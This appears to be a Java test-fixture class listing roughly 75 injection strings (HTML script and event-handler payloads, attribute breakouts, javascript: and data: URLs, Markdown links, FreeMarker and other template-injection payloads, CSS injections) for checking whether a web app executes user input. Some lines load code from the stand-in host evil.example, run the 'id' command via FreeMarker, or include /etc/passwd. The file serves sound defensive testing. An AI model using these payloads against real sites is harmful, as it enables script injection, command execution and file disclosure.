package org.localoffer.promise;

import java.util.List;

/**
 * Texts that want to run. Each sets {@code window.trapped} if a page lets it; none is longer than
 * 90 characters, so that most fields take it.
 */
public final class HostileTexts {

  public static final List<String> ALL =
      List.of(
          // elements
          "<script>window.trapped=1</script>",
          "<ScRiPt>window.trapped=1</sCrIpT>",
          "<script src=//evil.example/x.js></script>",
          "</script><script>window.trapped=1</script>",
          "<script/x>window.trapped=1</script>",
          "<scr<script>ipt>window.trapped=1</scr</script>ipt>",
          "<img src=x onerror=\"window.trapped=1\">",
          "<img src=x onerror='window.trapped=1'>",
          "<img src=x onerror=window.trapped=1>",
          "<img/src/onerror=window.trapped=1>",
          "<svg onload=\"window.trapped=1\">",
          "<svg><script>window.trapped=1</script></svg>",
          "<svg><animate onbegin=window.trapped=1 attributeName=x dur=1s>",
          "<math><mi xlink:href=\"javascript:window.trapped=1\">x</mi></math>",
          "<body onload=window.trapped=1>",
          "<details open ontoggle=window.trapped=1>x</details>",
          "<input autofocus onfocus=window.trapped=1>",
          "<video><source onerror=window.trapped=1></video>",
          "<iframe srcdoc=\"<script>parent.trapped=1</script>\">",
          "<iframe src=\"javascript:parent.trapped=1\">",
          "<object data=\"data:text/html,<script>parent.trapped=1</script>\">",
          "<embed src=\"javascript:window.trapped=1\">",
          "<base href=\"https://evil.example/\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:window.trapped=1\">",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<style>@import 'https://evil.example/x.css';</style>",
          "<form action=\"javascript:window.trapped=1\"><button>Go</button></form>",
          "<a href=\"javascript:window.trapped=1\">here</a>",
          "<template><script>window.trapped=1</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=window.trapped=1>\">",
          // out of attributes, comments and data
          "\" onmouseover=\"window.trapped=1\" x=\"",
          "' onmouseover='window.trapped=1' x='",
          "\" autofocus onfocus=window.trapped=1 x=\"",
          "\"><img src=x onerror=window.trapped=1>",
          "'><img src=x onerror=window.trapped=1>",
          "`><img src=x onerror=window.trapped=1>",
          "x onclick=window.trapped=1 y",
          "--><img src=x onerror=window.trapped=1><!--",
          "<!--<script>",
          "<![CDATA[<img src=x onerror=window.trapped=1>]]>",
          "</title><script>window.trapped=1</script>",
          "</textarea><img src=x onerror=window.trapped=1>",
          "</style><img src=x onerror=window.trapped=1>",
          "\\\";window.trapped=1;//",
          "';window.trapped=1;//",
          "\"});window.trapped=1;({\"a\":\"",
          "\u2028window.trapped=1\u2029",
          "*/window.trapped=1/*",
          "__proto__",
          // addresses
          "javascript:window.trapped=1",
          "JaVaScRiPt:window.trapped=1",
          "java\tscript:window.trapped=1",
          " javascript:window.trapped=1",
          "&#106;avascript:window.trapped=1",
          "data:text/html,<script>window.trapped=1</script>",
          "vbscript:msgbox(1)",
          "//evil.example/x",
          "https://user:password@evil.example/",
          "https://evil.example\\@county.example/",
          "[here](javascript:window.trapped=1)",
          "[here](<javascript:window.trapped=1>)",
          "[here](data:text/html;base64,PHNjcmlwdD4=)",
          "![x](https://evil.example/track.gif)",
          "<javascript:window.trapped=1>",
          "[a]: javascript:window.trapped=1",
          // templates
          "${7*7}",
          "#{7*7}",
          "[=7*7]",
          "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
          "</@layout.frame><#include \"/etc/passwd\">",
          "{{constructor.constructor('window.trapped=1')()}}",
          "<%= window.trapped %>",
          "::services category=<script>",
          // style
          "red;background:url(https://evil.example/x)",
          "expression(window.trapped=1)",
          "#1d5a4c}body{background:url(https://evil.example/x)}");

  private HostileTexts() {}
}
